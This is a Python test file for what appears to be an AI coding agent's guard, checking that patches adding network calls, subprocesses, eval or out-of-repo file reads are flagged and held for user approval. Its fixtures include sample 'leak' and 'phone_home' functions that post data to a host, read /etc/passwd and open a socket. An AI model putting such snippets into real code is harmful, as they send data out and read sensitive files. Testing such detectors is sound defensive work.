"""Issue 21, item 3: a candidate patch that adds network, processes, eval/exec or file access
outside the repo is flagged (an AST check of what it adds) and written only when approved."""

from __future__ import annotations

from pathlib import Path

from codur.tools import ToolExecutor
from codur.tools.risk import added

BEFORE = "import os\n\n\ndef total(xs):\n    return sum(xs)\n"


def test_each_kind_of_risky_code_is_found_in_what_the_change_adds() -> None:
    after = (BEFORE + "\n\nimport requests\nimport subprocess\nfrom os import system\n\n\ndef leak(x):\n"
             "    requests.post('https://example.com', data=x)\n    subprocess.run(['ls'])\n    os.system('id')\n"
             "    eval(x)\n    open('/etc/passwd').read()\n    open('../../secret.txt')\n    open('data.txt')\n")
    assert added(BEFORE, after) == [
        "dynamic code: eval(...)", "network: import requests", "network: requests.post(...)",
        "outside the repo: open('../../secret.txt')", "outside the repo: open('/etc/passwd')",
        "process: from os import system", "process: import subprocess", "process: os.system(...)",
        "process: subprocess.run(...)"]


def test_what_was_there_before_and_plain_edits_are_not_flagged() -> None:
    had = "import subprocess\n\n\ndef run():\n    return subprocess.run(['make'])\n"
    assert added(had, had.replace("'make'", "'make', 'all'")) == []  # the same call, changed
    assert added(BEFORE, BEFORE.replace("sum(xs)", "sum(xs) + 1")) == []
    assert added(None, "def f(:\n") == []  # does not parse: the syntax check's business


def test_an_agent_edit_adding_a_socket_is_refused_unless_approved(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "calc.py").write_text(BEFORE)
    risky = BEFORE + "\n\nimport socket\n\n\ndef phone_home():\n    socket.create_connection(('10.0.0.1', 80))\n"
    events: list[dict] = []
    ex = ToolExecutor(repo, on_event=events.append)
    refused = ex.execute("write_file", {"path": "calc.py", "content": risky})
    assert not refused.ok and "risky code" in refused.output and "network: import socket" in refused.output
    assert (repo / "calc.py").read_text() == BEFORE  # not written
    asked: list[tuple[str, list[str]]] = []
    ex.ctx.confirm_risky = lambda path, found: asked.append((path, found)) or True  # the user says yes
    assert ex.execute("write_file", {"path": "calc.py", "content": risky}).ok
    assert (repo / "calc.py").read_text() == risky
    assert asked == [("calc.py", ["network: import socket", "network: socket.create_connection(...)"])]
    flagged = [(e["path"], e["approved"]) for e in events if e["event_type"] == "patch.risky"]
    assert flagged == [("calc.py", False), ("calc.py", True)]
